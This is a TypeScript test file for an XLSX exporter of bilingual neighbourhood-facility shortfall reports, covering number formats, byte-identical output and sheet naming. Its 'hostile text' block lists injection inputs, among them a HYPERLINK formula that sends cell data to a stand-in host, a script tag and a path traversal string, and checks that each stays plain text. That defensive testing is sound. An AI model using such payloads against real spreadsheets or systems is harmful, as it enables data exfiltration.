import { Decimal } from "@plan/rules";
import { checkProvision, type Provision, sizeNeighbourhood } from "@plan/sizing";
import { describe, expect, test } from "vitest";
import { otherReading, ourReading, partsOf } from "../test/readWorkbook.ts";
import { refusal, refused } from "../test/refused.ts";
import { landTransferConditions, type ReportDocument, rectificationPlan, shortfallList } from "./index.ts";
import { toXlsx } from "./toXlsx.ts";

const sizing = sizeNeighbourhood({ name: "红光小区", division: "450203", on: "2022-03-01", development: "existing", households: 1234 });
const check = (provision: Provision) => checkProvision(sizing, provision);
const words = (text: string) => ({ zh: text, en: text });
/** A document with one table. */
function withTable(
  rows: NonNullable<ReportDocument["sections"][number]["clauses"][number]["table"]>["rows"],
  caption = "表",
): ReportDocument {
  const table = { caption: words(caption), head: rows[0]?.map((_, index) => words(`栏${index + 1}`)) ?? [words("栏")], rows };
  const clauses = [{ number: "（一）", text: words("见表"), status: "option" as const, basis: null, table }];
  return { title: words("试验"), number: null, sections: [{ heading: words("一、表"), clauses }], advisories: [], signature: null };
}

describe("a list of shortfalls as a workbook, 三（二）8: 185.1 m² each for 1,234 households", () => {
  const file = toXlsx(shortfallList([check({ elderlyCare: "100.123456" }), check({ elderlyCare: "100", infantCare: "0" })]));

  test("figures are numbers, counts are whole, text is text, what nobody reported is said", () => {
    const [, first, second] = ourReading(file).缺口清单 ?? [];
    expect(first?.slice(0, 14)).toEqual([
      ...["1", '"450203"', '"＿＿＿＿"', '"＿＿＿＿"', '"红光小区"', '"＿＿＿＿"', '"＿＿＿＿"'],
      ...["1234", "185.1", "100.123456", "84.98", "185.1", '"未填报"', '"未填报"'],
    ]);
    expect(second?.slice(7, 14)).toEqual(["1234", "185.1", "100", "85.1", "185.1", "0", "185.1"]);
  });

  test("figures show two decimals at least, and all they have", () => {
    const { text = "" } = partsOf(file)["xl/styles.xml"] ?? {};
    expect(text).toContain('formatCode="0.00####"');
  });

  test("another reader finds the same", async () => {
    expect(await otherReading(file)).toEqual(ourReading(file));
  });

  test("keeps its head in view, fits the width of the page, and prints what there is", () => {
    const { text = "" } = partsOf(file)["xl/worksheets/sheet2.xml"] ?? {};
    expect(text).toMatch(/state="frozen".*fitToWidth="1" fitToHeight="0"/s);
    expect(partsOf(file)["xl/workbook.xml"]?.text).toContain("'缺口清单'!$A$1:$U$3");
  });
});

describe("any document", () => {
  test.each([
    ["conditions", landTransferConditions({ sizing })],
    ["a plan", rectificationPlan(check({ elderlyCare: "0" }))],
  ])("%s is written whole, in both languages, the same bytes each time", async (_, document) => {
    for (const locale of ["zh-CN", "en"] as const) {
      const file = toXlsx(document, { locale });
      expect(Buffer.compare(toXlsx(JSON.parse(JSON.stringify(document)), { locale }), file)).toBe(0);
      const said = JSON.stringify(ourReading(file));
      for (const { clauses } of document.sections)
        for (const { text } of clauses) expect(said).toContain(JSON.stringify(locale === "en" ? text.en : text.zh).slice(1, -1));
      expect(await otherReading(file)).toEqual(ourReading(file));
    }
  });

  test("figures of 15 digits are numbers; with more a workbook would change them, and they are text", () => {
    const figures = ["0", "0.000001", "246.8", "123456789.123456", "123456789012345", "1234567890123456", "999999999999.999999"];
    const file = toXlsx(withTable(figures.map((figure) => [new Decimal(figure)])));
    const [, ...read] = ourReading(file).表 ?? [];
    expect(read.flat()).toEqual([...figures.slice(0, 5), `"${figures[5]}"`, `"${figures[6]}"`]);
  });
});

describe("hostile text", () => {
  const texts = [
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    ...["-1+1", "+1", "@SUM(1)", "\t=1+1", "\n=1+1", "＋1", "a\r\n=1+1", "a\rb"],
    ...[
      "<script>alert(1)</script>",
      "]]>",
      "<!--",
      "&amp;",
      "&#0;",
      "_x0041_",
      "_x005F_",
      "_x000D_",
      "'",
      '"',
      " a ",
      "constructor",
      "../../etc/passwd",
    ],
    "𠮷野家𡈽",
    "字".repeat(9_999),
  ];

  test("stays the text that it is, in cells that are text", async () => {
    const file = toXlsx(withTable(texts.map((text) => [words(text)])));
    const [, ...read] = ourReading(file).表 ?? [];
    expect(read.flat()).toEqual(texts.map((text) => `"${text}"`));
    const { text = "", elements = new Set<string>() } = partsOf(file)["xl/worksheets/sheet2.xml"] ?? {};
    expect([...elements].filter((name) => ["f", "hyperlink", "script"].includes(name))).toEqual([]);
    expect(text.match(/<v>/g)).toBeNull();
    expect((await otherReading(file)).表?.slice(1)).toEqual(read);
  });

  test.each(["a\u0000b", "a\u0007b", "a\ufffeb", "a\ud800b", "a\u202eb", "20\u200b"])("%j is refused, not dropped", (text) => {
    expect(refused(() => toXlsx(withTable([[words(text)]])))).toBe("invalidTemplate");
  });

  test("32,767 characters are a cell, one more is refused, not cut", () => {
    const [longest, longer] = ["字".repeat(32_767), "字".repeat(32_768)];
    expect(ourReading(toXlsx(withTable([[words(longest)]]))).表?.[1]).toEqual([`"${longest}"`]);
    const error = refusal(() => toXlsx(withTable([[words(longer)]])));
    expect(error?.code).toBe("tooLarge");
    expect(error?.issues[0]?.path).toEqual(["表", 2, "A"]);
  });

  test("a caption becomes a name that every program takes, once", () => {
    const captions = ["a/b\\c?d*e:f[g]h", "History", "正文", "'x'", "", "字".repeat(50), `${"a".repeat(30)}𠮷`];
    const sections = captions.flatMap((caption) => withTable([[words("1")]], caption).sections);
    const document = { ...withTable([]), sections };
    expect(Object.keys(ourReading(toXlsx(document)))).toEqual([
      ...["正文", "a b c d e f g h", "History 1", "正文 (2)", "x", "Sheet", "字".repeat(31), "a".repeat(30)],
    ]);
  });
});

test("what is no document is refused", () => {
  for (const given of [null, {}, "PK", { ...withTable([]), title: 1 }])
    expect(refused(() => toXlsx(given as never))).toBe("invalidTemplate");
  expect(refused(() => toXlsx(withTable([]), { locale: "de" as never }))).toBe("invalidTemplate");
});
